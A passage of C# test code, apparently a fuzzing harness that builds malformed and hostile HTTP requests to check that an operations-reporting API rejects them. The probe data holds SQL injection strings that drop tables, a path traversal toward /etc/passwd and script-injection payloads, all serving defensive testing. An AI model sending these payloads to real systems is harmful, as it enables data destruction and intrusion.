        foreach (var query in new[] { "?dryRun=maybe", "?atomic=2", "?dryRun=%00", "?atomic=", "?dryRun=true&dryRun=false", "?atomic=%27%20OR%201=1" })
        {
            yield return new ProbeDraft($"{Drill}/returns/batch{query}", Admin).ToProbe($"batch query {query}", Encode("[" + poisoned + "]"), false);
        }

        foreach (var ifMatch in new[] { "abc", "\"abc\"", "\"1\"\"", "W/", "\"-1\"", "\"99999999999999999999\"", ",,,", "\"\"", "W/\"x\"", "\"1\", garbage" })
        {
            yield return new ProbeDraft($"{Drill}/returns", Admin).With("If-Match", ifMatch).ToProbe($"If-Match {ifMatch}", Encode(poisoned), true);
        }

        yield return new ProbeDraft($"{Drill}/returns", Admin).With("If-Match", "*").ToProbe("If-Match * on a return that does not exist", Encode(Render(BaseReturn(date: "2026-11-05"))), true);

        foreach (var key in new[] { "'; DROP TABLE ApiKeys;--", "lbt_" + new string('A', 43) + "'--", "lbt_", new string('x', 5000), "lbt_../../etc/passwd", "Bearer lbt_x" })
        {
            yield return new ProbeDraft($"{Drill}/returns", Nobody).With("X-Api-Key", key).ToProbe($"hostile key {Clip(key, 20)}", Encode(Render(BaseReturn(date: "2026-11-05"))), true);
        }

        foreach (var body in new[]
                 {
                     """{"code":"<script>alert(1)</script>","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["ESP"]}""",
                     """{"code":"'; DROP TABLE Operations;--","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["ESP"]}""",
                     """{"code":"../drill","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["ESP"]}""",
                     """{"code":"ok-code","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["ESP","XXX"]}""",
                     """{"code":"ok-code","name":"x","startDate":"2026-11-01","endDate":"2030-11-02","participants":["ESP"]}""",
                     """{"code":"ok-code","name":"x","startDate":"2026-11-03","endDate":"2026-11-02","participants":["ESP"]}""",
                     """{"code":"ok-code","name":"x","startDate":"not a date","endDate":"2026-11-02","participants":["ESP"]}""",
                     """{"code":"ok-code","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":"ESP"}""",
                     """{"code":"ok-code","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["ESP","ESP"]}""",
                     """{"code":"ok-code","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":[]}""",
                     """{"code":"ok-code","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":[null]}""",
                     """{"code":"ok-code","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["ESP"],"status":"final"}""",
                     """{"code":"drill","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["ESP"]}""",
                     """{"code":"liberterra-iii","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["ESP"]}""",
                     "{\"code\":\"" + new string('a', 5000) + "\",\"name\":\"x\",\"startDate\":\"2026-11-01\",\"endDate\":\"2026-11-02\",\"participants\":[\"ESP\"]}",
                     "{\"code\":\"ok-code\",\"name\":\"" + new string('n', 201) + "\",\"startDate\":\"2026-11-01\",\"endDate\":\"2026-11-02\",\"participants\":[\"ESP\"]}",
                     "{\"code\":\"ok-code\",\"name\":\"x" + InvalidBytesMarker + "\",\"startDate\":\"2026-11-01\",\"endDate\":\"2026-11-02\",\"participants\":[\"ESP\",\"XXX\"]}",
                     """{"code":"ok-code","code":"ok-code-2","name":"x","startDate":"2026-11-01","endDate":"2026-11-02","participants":["XXX"]}""",
                 })
        {
            yield return new ProbeDraft("/api/v1/operations", Admin).ToProbe($"create operation {Clip(body, 60)}", Encode(body, [0xFF]), true);
        }
    }

    /// <summary>Path-traversal-like, over-long and encoded route values on every GET and POST route.</summary>
    private static IEnumerable<Probe> HostileRoutes(Random random)
    {
        var poisoned = Encode(Render(BaseReturn(date: "2026-12-25")));
        foreach (var code in HostileCodes)
        {
            var operation = $"/api/v1/operations/{code}";
            foreach (var suffix in new[] { string.Empty, "/totals", "/regions", "/countries", "/countries?region=%3Cscript%3E", "/timeline", "/completeness", "/dataset", "/returns", "/returns?country=ESP" })
            {
                yield return Get(operation + suffix, Pick(random, new[] { Admin, Spain, AnalystCaller }));
            }

            yield return Get($"{operation}/returns/ESP/2026-11-01", Admin);
            yield return Get($"{operation}/returns/ESP/all/history", Admin);
            yield return new ProbeDraft($"{operation}/returns", Admin).ToProbe($"POST return to code {Clip(code, 30)}", poisoned, true);
            yield return new ProbeDraft($"{operation}/returns/batch", Admin).ToProbe($"POST batch to code {Clip(code, 30)}", Encode("[]"), false);
            yield return new ProbeDraft($"{operation}/finalize", Admin).ToProbe($"finalize code {Clip(code, 30)}", null, true);
            yield return new ProbeDraft($"{operation}/reopen", Admin).ToProbe($"reopen code {Clip(code, 30)}", null, true);
        }

        foreach (var country in HostileCountries)
        {
            yield return Get($"{Drill}/returns/{country}/2026-11-01", Pick(random, new[] { Admin, Spain }));
            yield return Get($"{Drill}/returns/{country}/all/history", Admin);
            yield return Get($"{Drill}/returns?country={country}", Pick(random, new[] { Admin, Spain }));
            yield return Get($"{Three}/countries?region={country}", Admin);
        }

        foreach (var period in HostilePeriods)
        {
            yield return Get($"{Drill}/returns/ESP/{period}", Pick(random, new[] { Admin, Spain }));
            yield return Get($"{Drill}/returns/ESP/{period}/history", Admin);
        }

        foreach (var query in new[]
                 {
                     "limit=abc", "limit=0", "limit=99999999999", "limit=-1", "from=notadate", "to=9999-99-99", "keyId=-1", "keyId=abc", "beforeId=abc",
                     "country=%3Cscript%3E", "operation=%27%20OR%201=1--", "outcome=" + new string('o', 5000), "from=0001-01-01&to=9999-12-31", "limit=1&limit=2",
                 })
        {
            yield return Get($"/api/v1/audit?{query}", Admin);
        }

        foreach (var (method, path) in new[]
                 {
                     ("PUT", $"{Drill}/returns"), ("DELETE", $"{Drill}/returns/ESP/2026-11-01"), ("PATCH", $"{Drill}/returns/ESP/2026-11-01"),
                     ("POST", $"{Drill}/totals"), ("DELETE", Drill), ("PUT", "/api/v1/operations"), ("POST", "/api/v1/audit"), ("POST", $"{Drill}/returns/ESP/2026-11-01"),
                     ("GET", $"{Drill}/returns/batch"), ("GET", $"{Drill}/finalize"), ("GET", "/api/v1/operations/drill/returns/ESP/2026-11-01/history/extra"),
                     ("GET", "/api/v2/operations"), ("GET", "/api"), ("GET", "/api/"), ("OPTIONS", $"{Drill}/returns"), ("TRACE", Drill),
                 })
        {
            yield return new ProbeDraft(path, Admin).ToProbe($"{method} {path}", method is "GET" or "OPTIONS" or "TRACE" ? null : poisoned, true, new HttpMethod(method));
        }
    }

    private sealed class ProbeDraft(string path, string caller, List<KeyValuePair<string, string>>? fields = null)
    {
        public string Path { get; set; } = path;
        public string Caller { get; set; } = caller;
        public List<KeyValuePair<string, string>> Fields { get; } = fields ?? [];
        public string? ContentType { get; set; } = "application/json";
        public List<KeyValuePair<string, string>> Headers { get; } = [];

        public ProbeDraft With(string header, string value)
        {
            Headers.Add(new(header, value));
            return this;
        }

        public Probe ToProbe(string label, byte[]? body, bool mustReject, HttpMethod? method = null) =>
            new(label, method ?? HttpMethod.Post, Path, body, ContentType, Caller, [.. Headers], mustReject);
    }

    internal sealed record Probe(
        string Label, HttpMethod Method, string Path, byte[]? Body, string? ContentType, string Caller, IReadOnlyList<KeyValuePair<string, string>> Headers, bool MustReject)
    {
        public HttpRequestMessage ToRequest()
        {
            var request = new HttpRequestMessage(Method, Path);
            if (Body is not null)
            {
                var content = new ByteArrayContent(Body);
                if (ContentType is not null)
                {
                    content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
                }

                request.Content = content;
            }

            foreach (var (name, value) in Headers)
            {
                request.Headers.TryAddWithoutValidation(name, value);
            }

            return request;
        }
    }
}
